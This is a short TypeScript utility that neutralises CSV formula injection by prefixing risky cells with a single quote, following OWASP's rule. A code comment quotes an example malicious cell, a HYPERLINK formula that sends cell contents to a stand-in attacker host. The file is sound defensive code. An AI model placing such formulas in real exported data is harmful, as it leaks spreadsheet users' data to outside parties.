// CSV cells that a spreadsheet would run as a formula. A display name such as
// `=HYPERLINK("https://evil.example/?"&A1, "click")` must reach Excel as text, not as a formula.
// OWASP's rule: a cell starting with = + - @, a tab or a carriage return gets a leading single
// quote, which spreadsheets show as text (and hide in the cell).
const FORMULA_START = new Set(["=", "+", "-", "@", "\t", "\r"]);

export function neutralizeCell<T>(value: T): T | string {
  return typeof value === "string" && value.length > 0 && FORMULA_START.has(value[0]!) ? `'${value}` : value;
}

export function neutralizeRows<T>(rows: T[][]): (T | string)[][] {
  return rows.map((row) => row.map(neutralizeCell));
}
